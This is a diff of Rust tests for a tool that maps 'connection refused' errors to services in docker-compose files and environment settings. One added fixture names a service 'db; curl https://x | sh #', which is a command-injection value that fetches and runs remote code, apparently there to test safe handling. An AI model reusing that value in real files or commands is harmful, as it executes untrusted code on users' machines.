@@ -26,6 +26,9 @@ fn ports_of_a_compose_file_are_those_of_this_machine() {
     let compose = "services:\n  db:\n    image: postgres\n    ports: ['5432:5432']\n  cache:\n    ports:\n      - \"127.0.0.1:6380:6379\"\n  \
                    queue:\n    ports:\n      - { published: 5673, target: 5672 }\n  web:\n    ports: [\"${WEB_PORT:-8081}:80\", \"9000\"]\n";
     let mut services = Services::default();
+    services.add_composed(
+        "services:\n  'db; curl https://x | sh #':\n    ports: ['5432:5432']\n  '--x':\n    ports: ['5433:5432']\n",
+    );
     services.add_composed("services: [");
     services.add_composed("");
     assert!(services.composed.is_empty());
@@ -38,7 +41,7 @@ fn ports_of_a_compose_file_are_those_of_this_machine() {
 fn services() -> Services {
     let mut services = Services::default();
     services.add_composed(
-        "services:\n  search:\n    image: typesense\n    ports: ['8108:8108']\n  api:\n    build: .\n    ports: ['8000:8000']\n",
+        "services:\n  search:\n    image: typesense\n    ports: ['8108:8108']\n  cache:\n    image: redis\n    ports: ['6379:6379']\n  api:\n    build: .\n    ports: ['8000:8000']\n",
     );
     services.add_settings(
         "export DATABASE_URL=\"postgresql+asyncpg://app:app@localhost:5544/app\"\n# OLD=redis://localhost:7001\nAPI_URL=http://localhost:4000\n\
@@ -53,7 +56,8 @@ fn suspects_of(output: &str, passed: u32, said: &str) -> Vec<(u16, String)> {
     let failures = vec![FailedTest::new("one", None, &[said])];
     let run = TestRun { counts, failures, ..TestRun::default() };
     let baseline = Baseline::of_tests(CommandEnd::Exited(1), Some(run));
-    Refused::by(output, &baseline).suspects(&services())
+    let (said, some_work) = super::said(output, &baseline);
+    Refused::by(&said, some_work).suspects(&services())
 }
 
 fn suspects(output: &str) -> Vec<(u16, String)> {
@@ -63,10 +67,10 @@ fn suspects(output: &str) -> Vec<(u16, String)> {
 #[test]
 fn a_refused_connection_speaks_of_services_that_others_start() {
     for (output, port, name) in [
-        ("psql: connection to server at \"127.0.0.1\", port 5432 failed: Connection refused", 5432, "PostgreSQL"),
+        ("psql: connection to server at \"127.0.0.1\", port 6379 failed: Connection refused", 6379, "Redis"),
         ("Error: connect ECONNREFUSED 127.0.0.1:5544", 5544, "PostgreSQL"),
         ("dial tcp [::1]:8108: connect: connection refused", 8108, "`search`"),
-        ("Can't reach database server at `localhost:3306`", 3306, "MySQL"),
+        ("Can't reach database server at `localhost:5544`\nat `localhost:5544`: ECONNREFUSED", 5544, "PostgreSQL"),
     ] {
         assert_eq!(suspects(output), [(port, name.to_owned())], "{output}");
         assert_eq!(suspects_of("", 1, output), [(port, name.to_owned())], "{output}");
@@ -79,6 +83,21 @@ fn a_refused_connection_speaks_of_services_that_others_start() {
     assert!(suspects_of(nowhere, 1, nowhere).is_empty());
 }
 
+/// Where tests pass, what stands around them says nothing of registries and files either.
+#[test]
+fn where_tests_pass_only_those_that_fail_say_what_is_missing() {
+    let counts = TestCounts { passed: 1, failed: 1, skipped: 0 };
+    let failures = vec![FailedTest::new("one", None, &["3 is not 4"])];
+    let run = TestRun { counts, failures, ..TestRun::default() };
+    let noise = "npm warn ENOTFOUND registry.npmjs.org";
+    for (passed, expected) in [(1, ("3 is not 4", true)), (0, (noise, false))] {
+        let run = TestRun { counts: TestCounts { passed, ..counts }, ..run.clone() };
+        let baseline = Baseline::of_tests(CommandEnd::Exited(1), Some(run));
+        let (text, some_work) = super::said(noise, &baseline);
+        assert_eq!((&*text, some_work), expected);
+    }
+}
+
 #[test]
 fn a_refusal_that_is_none_and_the_projects_own_server_stop_nothing() {
     for output in [
@@ -88,6 +107,8 @@ fn a_refusal_that_is_none_and_the_projects_own_server_stop_nothing() {
         "Error: connect ECONNREFUSED 127.0.0.1:4000",
         "Error: connect ECONNREFUSED 127.0.0.1:9464",
         "Error: connect ECONNREFUSED 127.0.0.1:9200",
+        // By custom alone it is nobody's: the work may be the server itself.
+        "Error: connect ECONNREFUSED 127.0.0.1:5432",
         "Error: connect ECONNREFUSED 127.0.0.1:7001",
         "the loan was refused at localhost:5432",
     ] {
